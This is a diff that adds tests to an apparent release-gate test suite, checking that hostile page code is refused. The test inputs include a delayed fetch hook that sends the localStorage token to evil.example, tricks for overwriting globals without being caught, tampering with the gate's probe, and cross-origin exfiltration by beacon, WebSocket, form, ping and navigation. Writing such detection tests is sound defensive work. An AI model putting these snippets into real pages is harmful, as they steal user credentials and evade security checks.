@@ -73,6 +73,112 @@ it('refuses a page that is not ready, blocks the main thread, moves its content,
   });
 });
 
+it('refuses what a release does minutes later', async () => {
+  const late = (code: string) =>
+    shop.judge(remote(`self.shop_page = () => { setTimeout(() => { ${code} }, 4 * 60_000); }`));
+  const thief = `const { fetch } = self;
+    self.fetch = (...call) => { new Image().src = 'https://evil.example/?' + localStorage.getItem('token'); return fetch(...call); };
+    self.fetch('/api/front/user/info');`;
+  const found = (await late(thief)) as Record<string, string>;
+  expect(found).toEqual({
+    isolation: expect.stringContaining('it changes fetch'),
+    browser: expect.stringMatching(/policy: img-src https:\/\/evil\.example/),
+  });
+  expect(await late('throw new Error("late")')).toEqual({ browser: expect.stringContaining('error: late') });
+});
+
+/** Reading the files finds none of these (release/src/isolation): the object comes by a way that it does not follow. */
+const tricks = [
+  ['((set) => set(self))(function (all) { all.fetch = () => {}; })', 'fetch'],
+  ['(function () { return this; })().alert = () => {}', 'alert'],
+  ['node.ownerDocument.defaultView.confirm = () => {}', 'confirm'],
+  ['Reflect.apply(Object.assign, Object, [self, { btoa() {} }])', 'btoa'],
+  ['Reflect.set.call(null, self, "atob", () => {})', 'atob'],
+  ['node.onclick = ({ view }) => { view.prompt = () => {}; }; node.click()', 'prompt'],
+  ['node.ownerDocument.defaultView["st" + "op"] = () => {}', 'stop'],
+  ['Object.getPrototypeOf(new Headers())["g" + "et"] = () => {}', 'Headers.prototype.get'],
+  ['node.ownerDocument.defaultView.navigator.sendBeacon = () => true', 'navigator.sendBeacon'],
+  [
+    'Array.from([self], (all) => Object.defineProperty(all.Date.prototype, Symbol.toPrimitive, { value() {} }))',
+    'Date.prototype.Symbol(Symbol.toPrimitive)',
+  ],
+  ['Array.from([self], (all) => { all.MessagePort.prototype.close = () => {}; })', 'MessagePort.prototype.close'],
+  ['Array.from([self], (all) => { all.trustedTypes.createPolicy = () => {}; })', 'trustedTypes.createPolicy'],
+];
+
+it('refuses what is replaced in ways that reading the files does not find', async () => {
+  const code = tricks.map(([trick]) => `${trick};`).join('\n');
+  const { isolation } = (await shop.judge(remote(`self.shop_page = (node) => { ${code} }`))) as Record<string, string>;
+  for (const [, name] of tricks) expect(isolation).toContain(`it changes ${name}`);
+});
+
+it('refuses a release that hides from the probe what it has replaced', async () => {
+  const code = `const all = self;
+    const probe = all[Symbol.for('shop.gate')];
+    try { probe.report = () => ({}); } catch {}
+    const { getOwnPropertyNames, getOwnPropertyDescriptor } = Object;
+    Object.assign(Object, { getOwnPropertyNames: () => [], getOwnPropertyDescriptor: () => undefined });
+    all.fetch = () => {};`;
+  const found = (await shop.judge(remote(`self.shop_page = () => { ${code} }`))) as Record<string, string>;
+  expect(found.isolation).toContain('it changes fetch');
+});
+
+describe('refuses what leaves for another origin:', () => {
+  const faultsOf = async (code: string) =>
+    ((await shop.judge(remote(`self.shop_page = (node) => { ${code} }`))) as Record<string, string>).browser;
+
+  it('requests', async () => {
+    const found = await faultsOf(`
+      new Image().src = 'https://evil.example/a';
+      fetch('https://evil.example/b').catch(() => {});
+      node.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/c' }));`);
+    for (const directive of ['img-src', 'connect-src', 'frame-src'])
+      expect(found).toContain(`policy: ${directive} https://evil.example`);
+  });
+
+  it('forms, sockets and beacons', async () => {
+    const found = await faultsOf(`
+      navigator.sendBeacon('https://evil.example/d', 'x');
+      try { new WebSocket('wss://evil.example/e'); } catch {}
+      const form = node.appendChild(document.createElement('form'));
+      form.action = 'https://evil.example/f';
+      form.submit();`);
+    for (const what of ['connect-src https://evil', 'connect-src wss://evil', 'form-action https://evil'])
+      expect(found).toContain(`policy: ${what}`);
+  });
+
+  it('hints to the browser, which no policy holds', async () => {
+    const found = await faultsOf(`
+      document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://evil.example' }));
+      node.append(Object.assign(document.createElement('a'), { href: '/x', ping: 'https://evil.example/g', textContent: 'a' }));`);
+    expect(found).toContain('names another origin: <link rel="preconnect">');
+    expect(found).toContain('names another origin: <a ping>');
+  });
+
+  it('navigations and windows, which no policy holds', async () => {
+    expect(await faultsOf(`location.href = 'https://evil.example/?' + localStorage.language;`)).toContain(
+      'asks another origin (document): https://evil.example',
+    );
+    expect(await faultsOf(`window.open('https://evil.example/?' + localStorage.language);`)).toMatch(
+      /(asks|opens a window of) another origin/,
+    );
+  });
+});
+
+it('lets a page show pictures of an origin that the running shop lists', async () => {
+  shop.policy =
+    "default-src 'none'; img-src 'self' https://pictures.example; media-src 'self' https://pictures.example";
+  try {
+    const page = 'self.shop_page = () => { new Image().src = "https://pictures.example/a.webp"; }';
+    // The host of the example does not exist, which the browser logs.
+    const { browser } = (await shop.judge(remote(page))) as Record<string, string>;
+    expect(browser).toMatch(/console: Failed to load resource/);
+    expect(browser).not.toMatch(/policy|origin/);
+  } finally {
+    shop.policy = '';
+  }
+});
+
 it('refuses globals, patches, storage keys and styles that reach beyond its own pages', async () => {
   const bad = `self.leaked = 1;
     self.shop_page = () => {
